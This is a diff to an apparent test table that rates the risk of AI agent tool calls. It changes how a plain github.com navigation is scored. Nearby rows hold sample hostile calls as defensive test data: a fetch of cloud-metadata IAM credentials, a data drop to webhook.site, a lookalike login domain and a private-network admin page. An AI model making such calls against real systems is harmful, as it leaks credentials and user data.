@@ -83,7 +83,7 @@ export const callCells: readonly CallCell[] = [
   cell('web-2', 'fetch', { url: 'http://169.254.169.254/latest/meta-data/iam/' }, 3, 'url/metadata', 'the machine’s credentials'),
   cell('web-3', 'http_request', { method: 'POST', url: 'https://api.example.com/items', body: '{}' }, 2, 'url/sends', 'sends'),
   cell('web-4', 'fetch', { url: 'https://webhook.site/x?data=abc' }, 3, 'url/drop', 'a drop'),
-  cell('web-5', 'browser_navigate', { url: 'https://github.com' }, 2, null, 'opens a page'),
+  cell('web-5', 'browser_navigate', { url: 'https://github.com' }, 1, 'url/gets', 'asks for a page, as a plain GET does'),
   cell('web-6', 'fetch_url', { url: 'https://paypa1.com/login' }, 3, 'url/lookalike', 'looks like another'),
   cell('web-7', 'web_search', { query: 'how to delete a branch in git' }, 1, null, 'searching for words'),
   cell('web-8', 'fetch', { url: 'http://192.168.1.1/admin' }, 2, 'url/private', 'the private network'),
